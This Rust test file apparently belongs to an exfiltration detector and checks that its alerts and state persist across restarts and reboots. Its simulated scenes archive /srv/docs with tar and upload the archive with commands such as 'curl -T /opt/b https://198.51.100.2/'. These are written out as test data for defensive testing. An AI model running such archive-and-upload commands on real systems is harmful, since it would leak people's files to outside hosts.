//! Stories over a restart, an upgrade and a reboot.

use super::*;
use crate::{
    event::State,
    store::{decode, encode},
};

/// Tells the scene, and returns what was opened and what the next run finds.
fn run_and_keep(scene: &Scene, config: &Config) -> (Vec<Alert>, State) {
    let mut pipeline = Pipeline::new(config.clone());
    let mut out = Vec::new();
    for event in &scene.events {
        pipeline.step(event, &mut out);
    }
    let opened = out.into_iter().filter_map(|record| match record.body {
        Body::Alert(alert) if alert.action == Action::Opened => Some(*alert),
        Body::Alert(_)
        | Body::Signal(_)
        | Body::Start { .. }
        | Body::Stop { .. }
        | Body::Heartbeat { .. }
        | Body::Gap { .. } => None,
    });
    // As the file has it.
    (opened.collect(), decode(&encode(&pipeline.state()).0).unwrap())
}

fn collect(scene: &mut Scene) {
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/collect.sh"]);
    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-cf", "/opt/b", "/srv/docs"]);
    scene.write(101, 9_000, "/opt/b");
    read_documents(scene, 101);
}

fn send(scene: &mut Scene, pid: u32, name: &str, bytes: u64) {
    scene.spawn(10, pid, "/opt/own-sender", &["own-sender"]);
    scene.read(pid, 9_000, name, 12_000_000);
    scene.connect(pid, 7, OUTSIDE);
    scene.send(pid, 7, OUTSIDE, bytes, 500_000);
}

#[test]
fn what_was_collected_before_a_restart_is_known_after_it() {
    // Whether the collector had ended, the boot of the next run, the file that is sent, and whether that is told.
    let rows = [
        (true, "test", "/opt/b", 1),
        (false, "test", "/opt/b", 1),
        (true, "next", "/opt/b", 1),
        // Another boot may give the number to another file.
        (true, "next", "/opt/other", 0),
    ];
    for (ended, boot, name, expected) in rows {
        let mut scene = Scene::new();
        collect(&mut scene);
        if ended {
            scene.exit(101);
            scene.wait(1_000);
            scene.tick();
        }
        scene.stop();
        let (before, state) = run_and_keep(&scene, &Config::default());
        assert_eq!(before.len(), 0);
        let mut next = scene.again(boot, state);
        next.wait(6 * 3_600);
        next.tick();
        send(&mut next, 500, name, 12_050_000);
        next.stop();
        let (alerts, _) = run_and_keep(&next, &Config::default());
        assert_eq!(alerts.len(), expected, "{ended} {boot} {name}");
        for alert in alerts {
            let chain: Vec<String> = chain(&alert).into_iter().filter(|name| name != "init").collect();
            assert_eq!(chain, ["dash", "tar", "own-sender"], "{ended} {boot}");
        }
    }
}

#[test]
fn a_job_goes_on_where_it_was_and_restarts_do_not_hide_it() {
    let mut scene = Scene::new();
    collect(&mut scene);
    scene.exit(101);
    let mut alerts = Vec::new();
    for run in 0..10_u32 {
        let pid = 1_000 + run;
        scene.spawn(10, pid, "/usr/bin/curl", &["curl", "-T", "/opt/b", "https://198.51.100.2/"]);
        scene.read(pid, 9_000, "/opt/b", 60_000_000);
        scene.connect(pid, u64::from(pid), OUTSIDE);
        scene.send(pid, u64::from(pid), OUTSIDE, 600_000, 600_000);
        scene.exit(pid);
        scene.wait(1_800);
        scene.tick();
        scene.stop();
        let (opened, state) = run_and_keep(&scene, &Config::default());
        alerts.extend(opened);
        // Every third time the host is started anew as well.
        scene = scene.again(&format!("boot {}", run / 3), state);
    }
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].bytes_out, 5_400_000);
    assert!(chain(&alerts[0]).contains(&"tar".to_owned()));
}

#[test]
fn what_was_told_is_not_told_again_after_a_restart() {
    for (bytes, expected) in [(3_000, 0), (12_050_000, 1)] {
        let mut scene = Scene::new();
        archive_and_upload(&mut scene);
        scene.stop();
        let (alerts, state) = run_and_keep(&scene, &Config::default());
        assert_eq!(alerts.len(), 1);
        let mut next = scene.again("test", state);
        next.seen(10, 100, "/bin/dash");
        next.spawn(100, 103, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE]);
        next.read(103, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
        next.send(103, 9, OUTSIDE, bytes, 500_000);
        next.stop();
        assert_eq!(run_and_keep(&next, &Config::default()).0.len(), expected, "{bytes}");
    }
}

#[test]
fn trust_that_is_used_up_stays_used_up_for_the_day() {
    let text = "[[trust]]\nname = \"backup\"\ndestinations = [\"198.51.100.0/24\"]\ndaily_bytes = 13000000\n";
    let config = Config::parse(text, "test.toml").unwrap();
    for (wait, expected) in [(3_600, 1), (90_000, 0)] {
        let mut scene = Scene::new();
        collect(&mut scene);
        send(&mut scene, 300, "/opt/b", 12_050_000);
        scene.stop();
        let (alerts, state) = run_and_keep(&scene, &config);
        assert_eq!(alerts.len(), 0);
        let mut next = scene.again("test", state);
        next.wait(wait);
        collect(&mut next);
        send(&mut next, 500, "/opt/b", 12_050_000);
        next.stop();
        assert_eq!(run_and_keep(&next, &config).0.len(), expected, "{wait}");
    }
}

#[test]
fn what_programs_have_met_weighs_once_the_host_was_watched_for_long_enough() {
    // Seconds of the first run, whether the second goes to where the first went, and whether that is remarkable.
    let rows = [(600, "198.51.100.9:443", false), (3_600, "198.51.100.9:443", true), (3_600, OUTSIDE, false)];
    for (seconds, remote, expected) in rows {
        let mut scene = Scene::new();
        scene.spawn(10, 100, "/usr/bin/client", &["client"]);
        scene.connect(100, 7, OUTSIDE);
        scene.wait(seconds);
        scene.tick();
        scene.stop();
        let (_, state) = run_and_keep(&scene, &Config::default());
        let mut next = scene.again("test", state);
        next.spawn(10, 200, "/usr/bin/client", &["client"]);
        next.connect(200, 8, remote);
        let mut config = Config::default();
        config.alerts.signal_risk = 0.0;
        let remarkable = run(&next, config).into_iter().any(|record| match record.body {
            Body::Signal(line) => line.signal.signal.reason.contains("never connected before"),
            Body::Alert(_)
            | Body::Start { .. }
            | Body::Stop { .. }
            | Body::Heartbeat { .. }
            | Body::Gap { .. } => false,
        });
        assert_eq!(remarkable, expected, "{seconds} {remote}");
    }
}

#[test]
fn evidence_older_than_a_day_is_left_behind() {
    let mut scene = Scene::new();
    collect(&mut scene);
    scene.exit(101);
    scene.stop();
    let (_, state) = run_and_keep(&scene, &Config::default());
    scene.wait(100_000);
    let mut next = scene.again("next", state);
    send(&mut next, 500, "/opt/b", 12_050_000);
    next.stop();
    assert_eq!(run_and_keep(&next, &Config::default()).0.len(), 0);
}
